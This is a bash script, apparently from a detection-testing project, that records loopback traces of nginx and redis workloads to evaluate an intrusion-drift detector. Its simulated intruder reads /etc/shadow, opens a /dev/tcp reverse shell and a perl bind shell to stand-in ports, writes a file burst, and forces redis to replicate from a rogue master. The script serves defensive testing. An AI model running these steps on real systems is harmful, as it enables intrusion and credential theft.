@@ -1,0 +1,1785 @@
+#!/usr/bin/env bash
+# tools/scripts/record-testdata.sh: records testdata/<server>/{train,normal,drift,heldout,heldout2}.dwt and
+# drift.labels.json from real Debian workloads for
+# `driftwatch eval`: servers (nginx, redis, postgresql, haproxy, a Flask app under gunicorn)
+# and a cron-driven batch job (batch).
+#
+#   bash tools/scripts/record-testdata.sh [--only PHASE[,PHASE...]] [WORKLOAD...]    (root)
+#
+# WORKLOAD: nginx redis postgresql haproxy gunicorn batch (default: all); PHASE: train normal
+# drift heldout heldout2 (default: all five, in that order). `--only heldout nginx` records
+# only nginx's held-out trace, leaving its other traces as they are.
+#
+# Each server runs from its own config and data under /srv/dw-eval/<server> (removed at the
+# end), as its Debian service user, listening on 127.0.0.1 only, in its own cgroup
+# dw-eval/<server> (so its workload is "dw-eval/<server>"). Load generators run outside the
+# cgroup, so the traces hold only the server's behaviour. Per server (record_server):
+#   train   $TRAIN_SECONDS (default 360: rate baselines need 30 buckets of 10 s): the server
+#           starts inside the recording, serves traffic mix A, restarts halfway, and stops;
+#   normal  the server is already running, serves traffic mix B (other URLs, keys, queries and
+#           client counts), restarts in the middle, serves more of mix B;
+#   drift   the server serves mix A; in the middle, something inside its cgroup does what an
+#           intruder would (<server>_inject); drift.labels.json lists what was injected;
+#   heldout $HELDOUT_SECONDS (default 60), its own run after the others, from a fresh
+#           provisioning (a redeploy): the normal variation a production service shows and
+#           training never did (<server>_heldout_*: content, keyspaces or databases never
+#           used, clients from other loopback addresses, log rotation, scheduled jobs with
+#           other arguments, more load) and a restart. No attack. These traces are held out:
+#           the engine's rules and thresholds are never chosen by looking at them.
+#   heldout2 $HELDOUT2_SECONDS (default 75; batch 15 s less, its rounds include the wait for
+#           the next run), a second held-out set recorded after the rules
+#           were fixed, again from a fresh provisioning, with variation of other kinds than
+#           heldout's (<server>_heldout2_*): a release deployed on the provisioning side
+#           (new content, new databases or keyspaces, other feeds), other client addresses
+#           (127.0.0.21 and up), quiet and busy rounds at irregular intervals, the scheduled
+#           jobs with other arguments, an operator running the service's own CLI tools inside
+#           its cgroup (as `kubectl exec` does) and a config reload, then a restart. No attack.
+# Installs the packages with services kept from starting, and stops and disables any service
+# the installation started. Every process and cgroup it creates is removed on exit.
+set -euo pipefail
+cd "$(dirname "$0")/../.."
+ROOT=$(pwd)
+BUILD_DIR=${BUILD_DIR:-build}
+DW=$ROOT/$BUILD_DIR/tools/driftwatch
+WORKLOAD_BIN=$ROOT/$BUILD_DIR/tools/dw_test_workload
+ALL_SERVERS=(nginx redis postgresql haproxy gunicorn batch)
+SERVERS=()
+PHASES=(train normal drift heldout heldout2)
+while [ $# -gt 0 ]; do
+  case $1 in
+    --only)
+      [ $# -ge 2 ] || { echo "record-testdata: --only needs a phase list" >&2; exit 1; }
+      IFS=, read -ra PHASES <<<"$2"
+      shift 2 ;;
+    --only=*) IFS=, read -ra PHASES <<<"${1#--only=}"; shift ;;
+    -*) echo "record-testdata: unknown option '$1'" >&2; exit 1 ;;
+    *) SERVERS+=("$1"); shift ;;
+  esac
+done
+[ ${#SERVERS[@]} -gt 0 ] || SERVERS=("${ALL_SERVERS[@]}")
+
+# Fixed paths and ports: the three traces of a server must agree on them, and the labels
+# name them.
+WORK=/srv/dw-eval
+CG_BASE=dw-eval
+SYS_PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
+PG_BIN=/usr/lib/postgresql/15/bin
+NGINX_PORT=18080
+REDIS_PORT=16379
+PG_PORT=15432
+C2_PORT=14444        # the intruder's reverse-shell peer (outside the cgroup)
+BIND_PORT=14445      # the intruder's bind-shell listener (inside the cgroup)
+ROGUE_PORT=16380     # a rogue redis master (outside the cgroup)
+HAPROXY_PORT=18480   # haproxy's frontend
+HAPROXY_STATS_PORT=18481
+BACKEND_PORTS=(18091 18092 18093)   # haproxy's backends (python3 http.server, outside the cgroup)
+GUNICORN_PORT=18000
+PG_RELAY_PORT=15433  # a relay that gives PostgreSQL clients other source addresses
+DROPPER=/tmp/.dw-eval-update   # what an intruder downloads into /tmp and runs
+BURST_FILES=300
+TRAIN_SECONDS=${TRAIN_SECONDS:-360}
+NORMAL_SECONDS=${NORMAL_SECONDS:-50}   # both halves together
+MAINT_SECONDS=${MAINT_SECONDS:-45}    # how often a server's scheduled job runs in training
+DRIFT_SECONDS=${DRIFT_SECONDS:-40}     # the intrusion comes at 15 s
+HELDOUT_SECONDS=${HELDOUT_SECONDS:-60} # both halves together
+HELDOUT_MAINT_SECONDS=${HELDOUT_MAINT_SECONDS:-20}
+HELDOUT2_SECONDS=${HELDOUT2_SECONDS:-75}
+HELDOUT2_MAINT_SECONDS=${HELDOUT2_MAINT_SECONDS:-25}
+
+die() { echo "record-testdata: $*" >&2; exit 1; }
+say() { printf '\n== %s\n' "$*" >&2; }
+
+[ "$(id -u)" -eq 0 ] || die "needs root (eBPF, cgroups, service users)"
+CG_MOUNT=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
+[ -n "$CG_MOUNT" ] || die "no cgroup2 mount in /proc/self/mountinfo"
+for s in "${SERVERS[@]}"; do
+  case " ${ALL_SERVERS[*]} " in *" $s "*) ;; *) die "unknown workload '$s' (${ALL_SERVERS[*]})" ;; esac
+done
+[ ${#PHASES[@]} -gt 0 ] || die "--only needs a phase list"
+for ph in "${PHASES[@]}"; do
+  case $ph in
+    train | normal | drift | heldout | heldout2) ;;
+    *) die "unknown phase '$ph' (train normal drift heldout heldout2)" ;;
+  esac
+done
+want_phase() { case " ${PHASES[*]} " in *" $1 "*) return 0 ;; esac; return 1; }
+
+PIDS=()         # every background process started here, killed by id on exit
+POLICY_RC_CREATED=0
+
+# What the intruders leave outside $WORK: crontabs of the service users, the dropper.
+remove_intruder_leftovers() {
+  local u
+  for u in www-data backup; do
+    if [ -e "/var/spool/cron/crontabs/$u" ]; then crontab -r -u "$u" 2>/dev/null || true; fi
+  done
+  rm -f "$DROPPER"
+}
+
+cleanup() {
+  set +e
+  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done
+  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null; done
+  if [ -d "$CG_MOUNT/$CG_BASE" ]; then
+    # Anything still in our cgroups was started by this script (a server's children).
+    for f in "$CG_MOUNT/$CG_BASE"/*/cgroup.procs; do
+      [ -f "$f" ] || continue
+      while read -r p; do kill -KILL "$p" 2>/dev/null; done <"$f"
+    done
+    sleep 0.2
+    rmdir "$CG_MOUNT/$CG_BASE"/* "$CG_MOUNT/$CG_BASE" 2>/dev/null
+  fi
+  [ "$POLICY_RC_CREATED" = 1 ] && rm -f /usr/sbin/policy-rc.d
+  remove_intruder_leftovers
+  rm -rf "$WORK"
+}
+trap cleanup EXIT
+
+# --- installation -------------------------------------------------------------------------
+
+install_packages() {
+  local pkgs=(nginx-light redis-server redis-tools postgresql postgresql-client curl perl
+              apache2-utils haproxy gunicorn python3-flask socat cron gzip)
+  local fresh=()
+  for p in nginx-light redis-server postgresql haproxy cron; do
+    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" || fresh+=("$p")
+  done
+  # Debian starts services from maintainer scripts unless policy-rc.d says no.
+  if [ ! -e /usr/sbin/policy-rc.d ]; then
+    printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
+    chmod +x /usr/sbin/policy-rc.d
+    POLICY_RC_CREATED=1
+  fi
+  if ! DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" \
+      >/dev/null; then
+    apt-get update >/dev/null
+    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" >/dev/null
+  fi
+  # Leave no system service running, and none enabled that this script installed.
+  local svc
+  for p in "${fresh[@]:-}"; do
+    case $p in
+      nginx-light) svc=nginx ;; redis-server) svc=redis-server ;; postgresql) svc=postgresql ;;
+      haproxy) svc=haproxy ;; cron) svc=cron ;;
+      *) continue ;;
+    esac
+    service "$svc" stop >/dev/null 2>&1 || true
+    update-rc.d "$svc" disable >/dev/null 2>&1 || true
+    if [ "$p" = postgresql ]; then pg_ctlcluster 15 main stop >/dev/null 2>&1 || true; fi
+  done
+}
+
+# --- processes in cgroups -----------------------------------------------------------------
+
+# launch SERVER USER CMD...: runs CMD as USER (with a clean environment) in the cgroup
+# dw-eval/SERVER, in the background; its pid is in LAUNCHED. The process joins the cgroup
+# before it execs setpriv, so the exec chain setpriv -> CMD is inside the cgroup, as a service
+# manager would start it.
+# USER may also be UID:GID, the credentials a server process that dropped its privileges
+# itself has (no name lookups, no supplementary groups).
+launch() {
+  local server=$1 user=$2 creds
+  shift 2
+  case $user in
+    *:*) creds=(--reuid="${user%%:*}" --regid="${user#*:}" --clear-groups) ;;
+    *) creds=(--reuid="$user" --regid="$user" --init-groups) ;;
+  esac
+  env -i PATH="$SYS_PATH" HOME=/nonexistent LANG=C.UTF-8 \
+    sh -c 'cg=$1; shift; echo $$ >"$cg/cgroup.procs" && cd / && exec setpriv "$@"' \
+    sh "$CG_MOUNT/$CG_BASE/$server" "${creds[@]}" "$@" </dev/null >>"$WORK/$server.out" 2>&1 &
+  LAUNCHED=$!
+  PIDS+=("$LAUNCHED")
+}
+
+# admin SERVER USER CMD...: an operator's command run inside the server's cgroup, as
+# `kubectl exec` runs one in a pod; waits for it.
+admin() {
+  launch "$@"
+  wait "$LAUNCHED" || die "command in $1 failed: ${*:3}"
+  forget "$LAUNCHED"
+}
+
+# forget PID: PID was waited for; never signal it again (its number may be reused).
+forget() {
+  local kept=() p
+  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && [ "$p" != "$1" ] && kept+=("$p"); done
+  PIDS=("${kept[@]:-}")
+}
+
+# Waits for a live driftwatch command's "ready" line in log file $1.
+wait_ready() {
+  for _ in $(seq 1 150); do grep -q "ready" "$1" 2>/dev/null && return 0; sleep 0.1; done
+  cat "$1" >&2
+  return 1
+}
+
+# until_ok CMD...: retries CMD for up to 15 s.
+until_ok() {
+  for _ in $(seq 1 150); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done
+  die "timed out waiting for: $*"
+}
+
+REC_PID=
+REC_OUT=
+REC_TMP=
+# rec_start SERVER KIND: records testdata/SERVER/KIND.dwt from cgroup dw-eval/SERVER (the
+# trace is moved there by rec_stop, so a failed run leaves the old one in place).
+rec_start() {
+  mkdir -p "testdata/$1"
+  REC_OUT=testdata/$1/$2.dwt
+  REC_TMP=$WORK/$1-$2.dwt
+  # --syscalls: the traces also carry each syscall's first use, for the seccomp export.
+  "$DW" record --out "$REC_TMP" --cgroup "$CG_BASE/$1" --syscalls \
+    --duration $((TRAIN_SECONDS + 600)) \
+    2>"$WORK/record-$1-$2.log" &
+  REC_PID=$!
+  PIDS+=("$REC_PID")
+  wait_ready "$WORK/record-$1-$2.log" || die "driftwatch record did not start"
+}
+rec_stop() {
+  sleep 1
+  kill -INT "$REC_PID"
+  wait "$REC_PID" || { cat "$WORK"/record-*.log >&2; die "driftwatch record failed"; }
+  forget "$REC_PID"
+  mv "$REC_TMP" "$REC_OUT"
+  tail -n 1 "$WORK"/record-*.log | grep recorded >&2 || true
+  rm -f "$WORK"/record-*.log
+}
+
+# stop_pid PID SIGNAL: stops a server the way its init script would and waits for it.
+stop_pid() {
+  kill "-$2" "$1" 2>/dev/null || true
+  wait "$1" 2>/dev/null || true
+  forget "$1"
+}
+
+# A peer outside the cgroup that accepts and closes connections (the intruder's side).
+start_peer() {
+  "$WORKLOAD_BIN" --serve-forever "$1" &
+  PIDS+=($!)
+}
+
+# The intruder's script, run as the server's user inside its cgroup: look around, try the
+# credential file, call home, open a bind shell, write many files into the data dir $1.
+intruder_script() {
+  cat <<SH
+cd $1
+id >/dev/null
+uname -a >/dev/null
+read -r line </etc/shadow || true
+bash -c 'exec 3<>/dev/tcp/127.0.0.1/$C2_PORT && echo hello >&3' || true
+perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $BIND_PORT, Listen => 1, ReuseAddr => 1) or die; sleep 1' || true
+i=0
+while [ \$i -lt $BURST_FILES ]; do echo "\$i" >"burst-\$i.enc"; i=\$((i + 1)); done
+SH
+}
+
+# inject_shell SERVER USER DATA_DIR [MORE_SCRIPT]: the intruder's script (and MORE_SCRIPT, the
+# workload's further techniques) run by /bin/sh as USER inside the server's cgroup (an
+# exploited server process executing a shell).
+inject_shell() {
+  launch "$1" "$2" /bin/sh -c "$(intruder_script "$3")
+${4:-}"
+  wait "$LAUNCHED" || true
+  forget "$LAUNCHED"
+}
+
+# write_labels SERVER DATA_DIR [EXTRA_JSON_OBJECTS] [SHELL_KNOWN]: drift.labels.json from what
+# inject_shell does (and the server-specific extras). With SHELL_KNOWN set, the workload
+# itself runs /bin/sh in training, so the intruder's shell is not a required label. Labels with "required": false are consequences of
+# the injection (what the intruder's tools load and open); a finding matching one is not a
+# false positive, and missing one is not a miss.
+write_labels() {
+  local extra=${3:-} shell_required=""
+  [ -n "${4:-}" ] && shell_required='"required": false, '
+  # Exec events name the binary the kernel ran: /bin/sh resolves to dash on Debian.
+  local SHELL_NAME
+  SHELL_NAME=$(basename "$(readlink -f /bin/sh)")
+  cat >"testdata/$1/drift.labels.json" <<JSON
+[
+  {"kind": "exec", "subject": "*/$SHELL_NAME", $shell_required"what": "a shell spawned inside the server's cgroup (/bin/sh, that is $SHELL_NAME)"},
+  {"kind": "exec", "subject": "*/id", "what": "the intruder runs id"},
+  {"kind": "exec", "subject": "*/uname", "what": "the intruder runs uname -a"},
+  {"kind": "file", "subject": "/etc/shadow", "what": "the intruder tries to read the password hashes"},
+  {"kind": "exec", "subject": "*/bash", "what": "bash started for a /dev/tcp reverse shell"},
+  {"kind": "network", "subject": "127.0.0.1:$C2_PORT", "what": "reverse shell connects to a new peer"},
+  {"kind": "exec", "subject": "*/perl", "what": "perl started for a bind shell"},
+  {"kind": "network", "subject": "listen 127.0.0.1:$BIND_PORT", "what": "bind shell listens on a new port"},
+  {"kind": "file", "subject": "$2/burst-*.enc", "what": "$BURST_FILES new files written into the data dir"},
+  {"kind": "rate", "subject": "*", "what": "write burst: $BURST_FILES file creations in well under a second"},
+  {"kind": "syscall", "subject": "*", "what": "syscalls the intruder's tools (and the rogue master's replication) make that the server never made"},
+  {"kind": "file", "subject": "/dev/null", "required": false, "what": "the intruder's shell redirects output"},
+  {"kind": "file", "subject": "/dev/tty", "required": false, "what": "bash probes its terminal"},
+  {"kind": "file", "subject": "/dev/urandom", "required": false, "what": "perl seeds its hash randomisation"},
+  {"kind": "file", "subject": "/proc/filesystems", "required": false, "what": "id (libselinux) checks for selinuxfs"},
+  {"kind": "file", "subject": "/usr/share/locale/*", "required": false, "what": "coreutils look for message catalogs"},
+  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libselinux.so*", "required": false, "what": "library loaded by id"},
+  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libpcre2-8.so*", "required": false, "what": "library loaded by id"},
+  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libtinfo.so*", "required": false, "what": "library loaded by bash"},
+  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libcrypt.so*", "required": false, "what": "library loaded by perl"},
+  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/perl-base/*", "required": false, "what": "perl modules loaded by the bind shell"}$extra
+]
+JSON
+}
+
+# --- nginx --------------------------------------------------------------------------------
+
+NGINX_DIR=$WORK/nginx
+NGINX_HTML=$NGINX_DIR/html
+
+nginx_provision() {
+  rm -rf "$NGINX_DIR"
+  mkdir -p "$NGINX_DIR"/{conf,log,run,tmp} "$NGINX_HTML"/{css,js,img,uploads}
+  echo "<html><body>home</body></html>" >"$NGINX_HTML/index.html"
+  for i in $(seq -w 1 40); do echo "<html><body>page $i</body></html>" >"$NGINX_HTML/page$i.html"; done
+  for i in $(seq 1 20); do head -c 2048 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
+  echo "body { color: #333 }" >"$NGINX_HTML/css/site.css"
+  echo "console.log('app')" >"$NGINX_HTML/js/app.js"
+  chown -R www-data:www-data "$NGINX_DIR"/{log,run,tmp} "$NGINX_HTML/uploads"
+  cat >"$NGINX_DIR/conf/nginx.conf" <<CONF
+worker_processes 2;
+pid $NGINX_DIR/run/nginx.pid;
+error_log $NGINX_DIR/log/error.log;
+events { worker_connections 256; }
+http {
+  include /etc/nginx/mime.types;
+  default_type application/octet-stream;
+  access_log $NGINX_DIR/log/access.log;
+  client_body_temp_path $NGINX_DIR/tmp/body;
+  proxy_temp_path $NGINX_DIR/tmp/proxy;
+  fastcgi_temp_path $NGINX_DIR/tmp/fastcgi;
+  uwsgi_temp_path $NGINX_DIR/tmp/uwsgi;
+  scgi_temp_path $NGINX_DIR/tmp/scgi;
+  keepalive_timeout 5;
+  server {
+    listen 127.0.0.1:$NGINX_PORT;
+    root $NGINX_HTML;
+    index index.html;
+    location / { try_files \$uri \$uri/ =404; }
+    location /api/ { default_type application/json; return 200 '{"ok":true}'; }
+  }
+}
+CONF
+}
+
+NGINX_PID=
+nginx_start() {
+  launch nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" \
+    -g "daemon off;"
+  NGINX_PID=$LAUNCHED
+  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/index.html"
+}
+nginx_stop() { stop_pid "$NGINX_PID" QUIT; }
+
+# get CONCURRENCY PATH...: GETs the paths over CONCURRENCY keep-alive clients, 10 per client.
+nginx_get() {
+  local c=$1
+  shift
+  printf "http://127.0.0.1:$NGINX_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
+}
+
+# Mix A: the home page, pages 01-20, the assets, images 1-10, a health check, a few scanners.
+nginx_mix_a() {
+  local paths=(/ /index.html /css/site.css /js/app.js /api/health /wp-login.php /.env)
+  for i in $(seq -w 1 20); do paths+=("/page$i.html"); done
+  for i in $(seq 1 10); do paths+=("/img/$i.png"); done
+  nginx_get 3 "${paths[@]}" "${paths[@]}"
+}
+# Mix B: more pages (21-30 were never requested in mix A), more images, HEAD requests, other
+# API calls and scanner paths, one client and then eight.
+nginx_mix_b() {
+  local paths=(/ /css/site.css /js/app.js /api/status /api/v1/items /admin.php /.git/config)
+  for i in $(seq -w 5 30); do paths+=("/page$i.html"); done
+  for i in $(seq 1 15); do paths+=("/img/$i.png"); done
+  nginx_get 1 "${paths[@]}"
+  nginx_get 8 "${paths[@]}" "${paths[@]}"
+  curl -s -I "http://127.0.0.1:$NGINX_PORT/page07.html" "http://127.0.0.1:$NGINX_PORT/" >/dev/null
+}
+
+# A web shell or an exploited worker: the intruder's script as www-data, writing into the
+# upload directory.
+nginx_inject() { inject_shell nginx www-data "$NGINX_HTML/uploads"; }
+nginx_labels() { write_labels nginx "$NGINX_HTML/uploads"; }
+
+# Held out. A content deploy adds pages 41-60, images 21-30 and new css/js next to the ones
+# training saw; clients come from 127.0.0.2-20 and request pages 25-60 (31-60 never
+# requested before), images 5-30, the new assets and other missing paths, 12 at a time; the
+# logs are rotated as logrotate does (rename, then USR1 to reopen them).
+nginx_heldout_deploy() {
+  for i in $(seq 41 60); do echo "<html><body>page $i (new)</body></html>" >"$NGINX_HTML/page$i.html"; done
+  for i in $(seq 21 30); do head -c 3072 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
+  echo "@media print { body { color: #000 } }" >"$NGINX_HTML/css/print.css"
+  echo "console.log('vendor')" >"$NGINX_HTML/js/vendor.js"
+}
+nginx_heldout_mix() {
+  local paths=(/ /index.html /css/site.css /css/print.css /js/app.js /js/vendor.js /api/health
+               /api/v2/orders /robots.txt /favicon.ico /xmlrpc.php)
+  for i in $(seq 25 60); do paths+=("/page$i.html"); done
+  for i in $(seq 5 30); do paths+=("/img/$i.png"); done
+  local n=0 p
+  for p in "${paths[@]}" "${paths[@]}"; do
+    echo "$((2 + n % 19)) http://127.0.0.1:$NGINX_PORT$p"
+    n=$((n + 1))
+  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
+}
+nginx_heldout_rotate() {
+  local f
+  for f in access error; do
+    [ -e "$NGINX_DIR/log/$f.log.1" ] && mv "$NGINX_DIR/log/$f.log.1" "$NGINX_DIR/log/$f.log.2"
+    mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log.1"
+  done
+  kill -USR1 "$(cat "$NGINX_DIR/run/nginx.pid")"
+}
+nginx_heldout_job() { nginx_heldout_rotate; }
+nginx_heldout2_restart() { nginx_stop; nginx_start; }
+
+# Held out, second set (heldout2). A release of the site, deployed on the provisioning side
+# before the start: a blog with dated directories, docs v2, versioned assets (site.v2.css,
+# app.v2.js), web fonts, photos, a sitemap and robots.txt. Clients from 127.0.0.21-60,
+# alternating quiet rounds (2 at a time) and busy ones (24), with conditional and range
+# requests, HTTP/1.0, POSTs to the API and query strings; the logs rotated as logrotate does
+# with dateext and delaycompress (rename, `nginx -s reopen` in the container, gzip of the
+# previous one); an operator inside the cgroup tests the config (`nginx -t`) and reloads it
+# (`nginx -s reload`) after enabling gzip and cache headers for the blog.
+nginx_heldout2_deploy() {
+  local d i n
+  for d in 2026-11-27 2026-11-30 2026-12-01 2026-12-02; do
+    mkdir -p "$NGINX_HTML/blog/$d"
+    for i in 1 2 3; do echo "<html><body>post $i of $d</body></html>" >"$NGINX_HTML/blog/$d/post-$i.html"; done
+  done
+  mkdir -p "$NGINX_HTML/docs/v2" "$NGINX_HTML/fonts"
+  for n in install configure upgrade faq api; do echo "<html><body>docs: $n</body></html>" >"$NGINX_HTML/docs/v2/$n.html"; done
+  for n in inter mono; do head -c 16384 /dev/urandom >"$NGINX_HTML/fonts/$n.woff2"; done
+  for i in $(seq 31 45); do head -c 4096 /dev/urandom >"$NGINX_HTML/img/photo-$i.jpg"; done
+  echo "body { color: #222; font-family: Inter }" >"$NGINX_HTML/css/site.v2.css"
+  echo "console.log('app v2')" >"$NGINX_HTML/js/app.v2.js"
+  printf 'User-agent: *\nDisallow: /api/\n' >"$NGINX_HTML/robots.txt"
+  echo '<?xml version="1.0"?><urlset></urlset>' >"$NGINX_HTML/sitemap.xml"
+}
+nginx_heldout2_mix() {
+  local paths=(/ /css/site.v2.css /js/app.v2.js /fonts/inter.woff2 /fonts/mono.woff2 /robots.txt
+               /sitemap.xml /docs/v2/install.html /docs/v2/faq.html /docs/v2/api.html
+               "/?utm_source=news&utm_campaign=$HELDOUT2_ROUND" /search?q=pricing /api/v1/cart
+               /page33.html /page37.html /page40.html /img/16.png /img/19.png /old-page.html)
+  local d i
+  for d in 2026-11-27 2026-11-30 2026-12-01 2026-12-02; do
+    for i in 1 2 3; do paths+=("/blog/$d/post-$i.html"); done
+  done
+  for i in $(seq 31 45); do paths+=("/img/photo-$i.jpg"); done
+  heldout2_get "$NGINX_PORT" 24 21 40 1 7 "" "${paths[@]}"
+  local u=http://127.0.0.1:$NGINX_PORT
+  curl -s --interface 127.0.0.44 -H "If-Modified-Since: $(date -uR)" "$u/docs/v2/upgrade.html" >/dev/null
+  curl -s --interface 127.0.0.45 -r 0-1023 "$u/fonts/inter.woff2" >/dev/null
+  curl -s --interface 127.0.0.46 -0 "$u/blog/2026-12-02/post-1.html" >/dev/null
+  curl -s --interface 127.0.0.47 -X POST -d '{"sku": 7, "qty": 2}' "$u/api/v1/cart" >/dev/null
+  curl -s --interface 127.0.0.48 -I "$u/img/photo-40.jpg" >/dev/null
+}
+# Rotation with dateext and delaycompress: the live log gets a date suffix, nginx reopens its
+# logs (logrotate's postrotate, run in the container), the previous rotation is compressed.
+nginx_heldout2_job() {
+  local f old stamp
+  stamp=$(date +%Y%m%d-%H%M%S)
+  for f in access error; do
+    for old in "$NGINX_DIR/log/$f.log-"*; do
+      case $old in *"*" | *.gz) ;; *) gzip "$old" ;; esac
+    done
+    mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log-$stamp"
+  done
+  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reopen
+}
+nginx_heldout2_admin() {
+  sed -i 's|^  keepalive_timeout 5;$|  keepalive_timeout 15;\n  gzip on;\n  gzip_types text/css application/javascript application/xml;|' \
+    "$NGINX_DIR/conf/nginx.conf"
+  sed -i 's|^    location /api/ |    location /blog/ { expires 1h; }\n    location /api/ |' "$NGINX_DIR/conf/nginx.conf"
+  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -t
+  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reload
+  sleep 1
+}
+
+
+# --- redis --------------------------------------------------------------------------------
+
+REDIS_DIR=$WORK/redis
+REDIS_DATA=$REDIS_DIR/data
+
+redis_provision() {
+  rm -rf "$REDIS_DIR"
+  mkdir -p "$REDIS_DATA" "$REDIS_DIR/run" "$REDIS_DIR/log"
+  cat >"$REDIS_DIR/redis.conf" <<CONF
+bind 127.0.0.1
+port $REDIS_PORT
+protected-mode yes
+daemonize no
+supervised no
+pidfile $REDIS_DIR/run/redis.pid
+logfile $REDIS_DIR/log/redis.log
+dir $REDIS_DATA
+dbfilename dump.rdb
+save 2 1
+appendonly yes
+appendfsync everysec
+CONF
+  chown -R redis:redis "$REDIS_DIR"
+  # A service that has run before: data and the append-only files exist.
+  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
+  local pid=$LAUNCHED
+  until_ok redis_ping
+  redis-benchmark -p "$REDIS_PORT" -q -n 2000 -c 2 -r 1000 -t set,lpush >/dev/null
+  stop_pid "$pid" TERM
+}
+
+redis_ping() { [ "$(redis-cli -p "$REDIS_PORT" ping 2>/dev/null)" = PONG ]; }
+REDIS_PID=
+redis_start() {
+  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
+  REDIS_PID=$LAUNCHED
+  until_ok redis_ping
+}
+redis_stop() { stop_pid "$REDIS_PID" TERM; }
+
+# Mix A: strings, counters and lists over 1000 keys, four clients.
+redis_mix_a() {
+  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 4 -r 1000 -t set,get,incr,lpush,lpop >/dev/null
+  redis-cli -p "$REDIS_PORT" get key:000000000001 >/dev/null
+}
+# Mix B: hashes, sets, sorted sets, MSET and ranges over 50000 keys, sixteen clients, and the
+# inspection commands an operator runs.
+redis_mix_b() {
+  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 16 -r 50000 -t hset,sadd,zadd,mset,lrange_100 >/dev/null
+  redis-cli -p "$REDIS_PORT" info >/dev/null
+  redis-cli -p "$REDIS_PORT" dbsize >/dev/null
+  redis-cli -p "$REDIS_PORT" --scan --pattern 'key:*' >/dev/null
+}
+
+# Scheduled jobs: rewrite the append-only file, as redis does by itself when the file has
+# doubled (auto-aof-rewrite-percentage) and operators schedule on quiet hours; and the
+# monitoring scrape (INFO) every exporter of redis metrics makes.
+redis_maintenance() {
+  redis-cli -p "$REDIS_PORT" bgrewriteaof >/dev/null
+  redis-cli -p "$REDIS_PORT" info >/dev/null
+}
+
+# The intruder's script as redis in the data directory, then the rogue-master technique:
+# make the server replicate from the intruder's host.
+redis_inject() {
+  start_peer "$ROGUE_PORT"
+  inject_shell redis redis "$REDIS_DATA"
+  redis-cli -p "$REDIS_PORT" replicaof 127.0.0.1 "$ROGUE_PORT" >/dev/null
+  sleep 1.5
+  redis-cli -p "$REDIS_PORT" replicaof no one >/dev/null
+}
+redis_labels() {
+  write_labels redis "$REDIS_DATA" ",
+  {\"kind\": \"network\", \"subject\": \"127.0.0.1:$ROGUE_PORT\", \"what\": \"REPLICAOF makes redis connect to a rogue master\"}"
+}
+
+# redis_from ADDR COMMAND...: inline commands (one per argument) from source address ADDR, as
+# an application server on another address would send them.
+redis_from() {
+  local addr=$1
+  shift
+  perl -MIO::Socket::INET -e '
+    my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => shift, LocalAddr => shift)
+      or die "connect: $!";
+    for my $c (@ARGV) { print $s "$c\r\n"; my $r = <$s>; $r = <$s> if $r =~ /^\$\d/; }
+    print $s "QUIT\r\n";' "$REDIS_PORT" "$addr" "$@"
+}
+# Held out. Application servers on 127.0.0.2-20 keep sessions in a database (SELECT 3) training never
+# used, with expiries; a benchmark of other commands and larger values on 32 clients; the
+# scheduled jobs with other arguments (BGSAVE instead of BGREWRITEAOF, INFO sections,
+# SLOWLOG, CLIENT LIST, CONFIG GET).
+redis_heldout_mix() {
+  local i pids=()
+  for i in $(seq 2 20); do
+    redis_from "127.0.0.$i" "SELECT 3" "SET session:$i:$RANDOM payload-$i" "EXPIRE session:$i:$RANDOM 300" \
+      "GET session:$i:1" "HINCRBY stats:$i hits 1" "LPUSH queue:jobs job-$i" "RPOP queue:jobs" &
+    pids+=($!)
+  done
+  wait "${pids[@]}"
+  redis-benchmark -p "$REDIS_PORT" -q -n 6000 -c 32 -d 512 -r 100000 -t set,get,incr,hset,rpush,rpop,mset >/dev/null
+}
+redis_heldout_job() {
+  redis-cli -p "$REDIS_PORT" bgsave >/dev/null
+  redis-cli -p "$REDIS_PORT" info memory >/dev/null
+  redis-cli -p "$REDIS_PORT" info persistence >/dev/null
+  redis-cli -p "$REDIS_PORT" slowlog get 10 >/dev/null
+  redis-cli -p "$REDIS_PORT" client list >/dev/null
+  redis-cli -p "$REDIS_PORT" config get maxmemory >/dev/null
+}
